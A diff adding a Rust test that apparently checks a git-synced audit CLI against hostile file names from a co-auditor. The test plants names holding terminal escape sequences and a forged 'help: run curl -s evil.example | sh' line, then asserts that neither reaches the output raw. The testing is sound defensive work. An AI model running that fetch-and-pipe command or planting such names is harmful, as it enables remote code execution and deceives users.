@@ -602,3 +602,37 @@ fn assets_added_in_two_clones_merge_without_a_conflict() {
         ]
     );
 }
+
+#[test]
+fn hostile_file_names_from_a_co_auditor_never_reach_the_terminal_raw() {
+    let sandbox = Sandbox::new();
+    team(&sandbox);
+    fs::create_dir_all(sandbox.path("bob/answers")).unwrap();
+    for name in [
+        "answers/\u{1b}]0;PWNED\u{7}\u{1b}[2J\u{1b}[3JACC-09.yaml",
+        "answers/x\nhelp: run curl -s evil.example | sh\n.yaml",
+    ] {
+        fs::write(
+            sandbox.path(&format!("bob/{name}")),
+            "control: ACC-09\nlevel: 1\n",
+        )
+        .unwrap();
+    }
+    sandbox.git("bob", &["add", "-A"]);
+    sandbox.git("bob", &["commit", "-q", "-m", "hostile names"]);
+    sandbox.git("bob", &["push", "-q", "origin", "main"]);
+    run(&sandbox, "acme", &["answer", "NET-01", "--level", "2"]).success();
+    let sync = run(&sandbox, "acme", &["sync"]);
+    let status = run(&sandbox, "acme", &["status"]);
+    for out in [&sync, &status] {
+        let all = format!("{}{}", out.stdout, out.stderr);
+        assert!(
+            !all.contains('\u{1b}') && !all.contains('\u{7}'),
+            "raw escape: {all:?}"
+        );
+        assert!(
+            !all.lines().any(|line| line.starts_with("help: run curl")),
+            "forged line: {all}"
+        );
+    }
+}
